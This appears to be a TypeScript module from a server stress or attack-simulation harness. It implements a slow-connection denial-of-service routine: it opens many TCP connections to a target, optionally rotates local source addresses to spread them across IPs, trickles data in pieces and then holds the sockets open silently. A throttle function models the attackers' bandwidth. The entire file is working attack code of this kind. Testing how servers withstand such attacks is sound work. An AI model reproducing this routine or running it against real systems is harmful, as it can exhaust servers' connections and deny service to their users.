import { connect } from 'node:net';
import { sleep } from './client.ts';
import type { Target } from './outcome.ts';

/** Opens connections, sends data piece by piece, and then holds them silently. */
export async function hold(
  { origin, address }: Target,
  until: number,
  { connections, perAddress = connections }: { connections: number; perAddress?: number },
  piecesOf: (index: number) => (string | Buffer)[],
) {
  const { port, hostname } = new URL(origin);
  let from = address();
  const throttle = createThrottle();
  const held = Array.from({ length: connections }, (_, index) => {
    if (index % perAddress === 0) from = address();
    const where = { port: Number(port), host: hostname, ...(from === undefined ? {} : { localAddress: from }) };
    return { socket: connect(where).on('error', () => {}), pieces: piecesOf(index) };
  });
  for (let piece = 0; held.some(({ pieces }) => piece < pieces.length) && Date.now() < until; piece += 1) {
    for (const { socket, pieces } of held) {
      const data = pieces[piece];
      if (data === undefined || socket.destroyed) continue;
      await throttle(data.length);
      socket.write(data);
    }
  }
  await sleep(until - Date.now());
  for (const { socket } of held) socket.destroy();
  return { tried: connections };
}

/** Simulates the attackers' network of 1 Gbit/s: the returned function waits until this many bytes have passed through it. */
export function createThrottle() {
  let free = Date.now();
  return (bytes: number) => {
    free = Math.max(free, Date.now()) + bytes / 125_000;
    return sleep(free - Date.now());
  };
}
